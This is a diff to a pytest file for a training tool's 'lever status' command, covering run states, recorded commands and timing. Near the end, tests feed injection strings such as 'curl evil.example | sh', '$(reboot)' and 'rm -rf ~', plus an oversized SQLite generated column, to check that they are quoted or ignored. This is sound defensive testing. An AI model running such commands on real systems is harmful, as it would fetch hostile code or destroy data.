@@ -1,11 +1,13 @@
 """`lever status`: what it says of a run at work, killed, finished, not begun, of Lever-Plus's making, of a broken one;
 and that it changes nothing there."""
 
+import contextlib
 import fcntl
 import json
 import os
 import shutil
 import signal
+import sqlite3
 import subprocess
 import sys
 import time
@@ -17,6 +19,7 @@ from helpers import RUN, SMALL, clean_environment, files_in
 from lever_lm import status as status_module
 from lever_lm.journal import table_header, table_row
 from lever_lm.locks import alone, seen
+from lever_lm.provenance import record, typed_again
 from lever_lm.runs import LOCK, RunFolder
 from lever_lm.status import gpus
 
@@ -111,7 +114,25 @@ def test_a_run_that_stopped_early_is_finished(trained, lever):
     for row in rows:
         row["val_reward"] = 2.0 if (row["phase"], row["epoch"]) == ("grpo", 2) else 1.0
     (run / "metrics.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
-    assert lever("status", "--json").json["state"] == "finished"
+    found = lever("status", "--json").json
+    assert (found["state"], found["why"]) == ("finished", "stopped early by grpo.patience after epoch 4")
+
+
+@pytest.mark.parametrize("last", ["lever train --grpo-epochs 9 --overwrite --no-resume", "", None])
+def test_what_goes_on_with_a_run_is_the_command_that_went_on_with_it(trained, lever, last):
+    run = RunFolder(trained / RUN)
+    run.config.write_text(run.config.read_text().replace("  epochs: 4\n", "  epochs: 9\n"))
+    first = json.loads(run.environment.read_text())
+    if last is not None:
+        for command in ("lever train --grpo-epochs 7", last):
+            record(run, {**first, "command": command}, pytest.fail)
+        assert json.loads(run.environment.read_text()) == {**first, "last_command": last}
+    expected = {
+        None: first["command"],
+        "": f"lever train --config {RUN}/config.yaml --results {trained}/results",
+    }.get(last, "lever train --grpo-epochs 9")
+    found = lever("status", RUN, "--json").json
+    assert (found["state"], found["command"]) == ("killed", expected)
 
 
 def test_nothing_was_begun_and_there_is_nothing(lever, tmp_path):
@@ -137,6 +158,54 @@ def test_a_run_killed_before_its_first_epoch_says_what_goes_on(lever, tmp_path):
     (tmp_path / RUN / LOCK).write_text(json.dumps(left))
     found = lever("status", "--json").json
     assert (found["state"], found["phase"], found["command"]) == ("killed", "rollouts", "lever train --limit 24")
+
+
+def test_rollouts_of_the_users_own_are_not_being_made(lever, tmp_path):
+    (tmp_path / RUN).mkdir(parents=True)
+    for command, phase in (
+        ("train --rl-data own.json", "rce"),
+        ("train --rl-data=own.json", "rce"),
+        ("train", "rollouts"),
+    ):
+        left = {"pid": 2**22 + 5, "host": "elsewhere", "command": command}
+        (tmp_path / RUN / LOCK).write_text(json.dumps(left))
+        assert lever("status", "--json").json["phase"] == phase
+
+
+def test_while_the_speed_of_grpo_is_unknown_what_is_left_of_rce_is_told(trained, lever):
+    run = RunFolder(trained / RUN)
+    rows = [{**row, "epoch_time": 40.0} for row in rows_of(run.path) if row["phase"] == "rce"]
+    run.metrics.write_text("".join(json.dumps(row) + "\n" for row in rows))
+    run.config.write_text(run.config.read_text().replace("  epochs: 2\n", "  epochs: 5\n"))
+    for path in run.path.glob("*_epoch*"):
+        path.unlink()
+    with run.alone(pytest.fail):
+        found = lever("status", "--json").json
+        assert (found["phase"], found["seconds_left"], found["phase_seconds_left"]) == ("rce", None, 120.0)
+        assert "  time        40 s an epoch, 2 min of this phase left, until about " in lever("status").out
+        assert "  RCE 2/5           > 2 min left " in lever("status", "--all").out
+
+
+def test_who_works_is_named_as_far_as_it_is_known(trained, lever, monkeypatch):
+    monkeypatch.setenv("PATH", str(trained))  # no nvidia-smi
+    for holder, said, where in (
+        (None, "a process since 20", "none on this host\n"),
+        (
+            {"pid": 7, "host": "node7", "command": ""},
+            "process 7 on node7 since 20",
+            "none on this host; the run is on node7\n",
+        ),
+        ({"pid": 7, "host": os.uname().nodename, "command": "train"}, ": lever train\n", "none on this host\n"),
+    ):
+        monkeypatch.setattr(status_module, "seen", lambda path, holder=holder: (holder, True))
+        (trained / RUN / LOCK).touch()
+        out = lever("status", RUN).out
+        assert said in out
+        assert f"  GPU         {where}" in out
+        assert "None" not in out
+    monkeypatch.undo()
+    monkeypatch.chdir(trained)
+    assert lever("status", RUN, "--json").json["why"] == "a process ended in the midst of it"
 
 
 def test_a_folder_of_lever_plus_is_read_by_its_checkpoints_or_its_log(lever, tmp_path):
@@ -262,3 +331,39 @@ def test_a_metric_that_is_not_finite_hinders_nothing(trained, lever):
     found = lever("status", "--json").json
     assert (found["epoch"], found["metrics"]["val_reward"]) == (6, None)
     assert found["best"]["val_reward"]["epoch"] <= 4
+
+
+@pytest.mark.parametrize(
+    ("kept", "said"),
+    [
+        ("lever train --run-name 'a b'", "lever train --run-name 'a b'"),
+        ("lever train; curl evil.example | sh", "lever 'train;' curl evil.example '|' sh"),
+        ("lever train $(reboot) `id`", "lever train '$(reboot)' '`id`'"),
+        ("rm -rf ~", ""),
+        ("lever 'train", ""),
+        ("lever " + "x" * 10_000, ""),
+        (["lever"], ""),
+        (None, ""),
+    ],
+)
+def test_a_command_from_a_file_is_words_to_a_shell(kept, said):
+    assert typed_again(kept) == said
+
+
+def test_a_command_from_a_lock_is_words_too_and_half_of_one_is_none(lever, tmp_path):
+    (tmp_path / RUN).mkdir(parents=True)
+    for command, said in (("train; reboot", "lever 'train;' reboot"), ("train " + "x" * 194, None)):
+        left = {"pid": 2**22 + 5, "host": "elsewhere", "command": command}
+        (tmp_path / RUN / LOCK).write_text(json.dumps(left))
+        assert lever("status", "--json").json["command"] == said
+
+
+def test_answers_that_are_made_when_they_are_read_are_not_counted(trained, lever):
+    (cache,) = (trained / "results/digits/cache").glob("answers_*.sqlite")
+    assert lever("status", "--json").json["answers"] > 0
+    cache.unlink()
+    with contextlib.closing(sqlite3.connect(cache)) as db:
+        db.execute("CREATE TABLE answers (a, key TEXT GENERATED ALWAYS AS (hex(zeroblob(400000000))) VIRTUAL)")
+        db.execute("INSERT INTO answers (a) VALUES (1)")
+        db.commit()
+    assert lever("status", "--json").json["answers"] is None
